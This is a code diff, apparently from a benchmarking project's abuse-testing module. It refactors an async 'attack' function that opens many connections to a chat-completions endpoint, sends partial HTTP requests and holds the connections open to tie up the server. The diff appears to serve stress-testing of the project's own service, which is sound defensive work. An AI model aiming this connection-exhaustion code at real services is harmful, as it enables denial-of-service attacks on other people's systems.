@@ -11,11 +11,14 @@ import random
 import time
 from typing import TYPE_CHECKING, Final
 
+from bench.abuse.sending import send
 from fleet.settings.address import split_host_port
 from warmroute.demo.http_client import ExchangeError, HttpClient
 
 if TYPE_CHECKING:
     from collections.abc import Callable
+
+    from bench.abuse.sending import Sent
 
 _PATH: Final = "/v1/chat/completions"
 _HEAD: Final = f"POST {_PATH} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
@@ -60,29 +63,17 @@ async def attack(
     """Keep many connections busy; each that ends is followed by another."""
     host, port = split_host_port(address)
     make, patience = KINDS[kind]
-    request, sent = make(model), 0
+    request = make(model)
+
+    async def connect(sent: Sent) -> None:
+        _, writer = await asyncio.open_connection(host, port, limit=1024)
+        try:
+            writer.write(request)
+            await writer.drain()
+            sent.add(request)
+            await asyncio.sleep(seconds if patience is None else random.uniform(0, patience))
+        finally:
+            writer.transport.abort()
+
     connections = _CONNECTIONS if patience is None else _CONNECTIONS // 20
-
-    async def one() -> None:
-        nonlocal sent
-        while sent < most_bytes:
-            # One that is refused is followed by another.
-            with contextlib.suppress(OSError):
-                _, writer = await asyncio.open_connection(host, port, limit=1024)
-                try:
-                    writer.write(request)
-                    await writer.drain()
-                    sent += len(request)
-                    await asyncio.sleep(seconds if patience is None else random.uniform(0, patience))
-                finally:
-                    writer.transport.abort()
-            await asyncio.sleep(0.01)
-
-    tasks = [asyncio.create_task(one()) for _ in range(connections)]
-    try:
-        await asyncio.wait(tasks, timeout=seconds)
-    finally:
-        for task in tasks:
-            task.cancel()
-        await asyncio.wait(tasks)
-    return sent
+    return await send(connect, connections=connections, most_bytes=most_bytes, seconds=seconds)
